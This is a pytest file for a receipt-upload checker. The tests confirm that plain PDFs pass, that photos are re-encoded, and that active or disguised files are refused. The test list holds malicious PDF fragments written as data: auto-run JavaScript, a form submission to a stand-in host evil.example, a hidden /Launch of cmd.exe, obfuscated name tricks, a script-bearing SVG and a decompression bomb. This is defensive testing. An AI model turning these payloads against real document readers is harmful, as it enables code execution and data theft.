"""Receipts from strangers: photos lose everything but their pixels, PDFs that act are not kept."""

import io
import zlib

import pytest
from fpdf import FPDF
from PIL import Image

from diwan.kernel import papers


def plain_pdf() -> bytes:
    page = FPDF()
    page.add_page()
    page.set_font("helvetica", size=12)
    page.cell(text="Hosting, 90.00 USD")
    return bytes(page.output())


def photo() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (640, 480), "olive").save(out, "JPEG", exif=Image.Exif())
    return out.getvalue()


def within(text: bytes) -> bytes:
    return plain_pdf().replace(b"/Type /Catalog", b"/Type /Catalog " + text, 1)


def hidden(text: bytes) -> bytes:
    packed = zlib.compress(b"1 0 " + text)
    stream = b"9 0 obj <</Type /ObjStm /Filter /FlateDecode /N 1 /First 4 /Length %d>>\nstream\n" % len(packed)
    return plain_pdf().replace(b"%%EOF", stream + packed + b"\nendstream endobj\n%%EOF")


def test_a_plain_pdf_is_kept_as_it_came() -> None:
    paper = plain_pdf()
    assert papers.checked(paper) == papers.Paper("pdf", paper)


def test_a_photo_is_encoded_anew() -> None:
    kept = papers.checked(photo())
    assert kept.suffix == "webp"
    assert kept.content[8:12] == b"WEBP"


@pytest.mark.parametrize(
    "content",
    [
        within(b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
        within(b"/AA <</O <</S /SubmitForm /F (https://evil.example)>>>>"),
        within(b"/Encrypt 5 0 R"),
        within(b"/Names <</J#61vaScript 5 0 R>>"),
        within(b"/Names <</EmbeddedFiles 5 0 R>>"),
        within(b"/AcroForm <</XFA 5 0 R>>"),
        hidden(b"<</S /Launch /F (cmd.exe)>>"),
        hidden(b"<</S /J#61vaScript>>").replace(b"ObjStm", b"Obj#53tm"),
        plain_pdf().replace(b"%%EOF", b""),
        b"%PDF-1.7\n" + b"\0" * 4000,
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<html>%PDF-1.4</html>",
        b"PK\x03\x04" + b"\0" * 100,
        b"",
    ],
)
def test_what_acts_or_is_something_else_is_refused(content: bytes) -> None:
    with pytest.raises(papers.NotAPaper):
        papers.checked(content)


def test_a_stream_that_swells_without_end_is_refused() -> None:
    with pytest.raises(papers.NotAPaper):
        papers.checked(hidden(b"\0" * 61_000_000))


def test_what_is_too_large_is_not_even_looked_at() -> None:
    with pytest.raises(papers.PaperTooLarge):
        papers.checked(b"%PDF-1.7" + b"\0" * papers.MOST_BYTES)
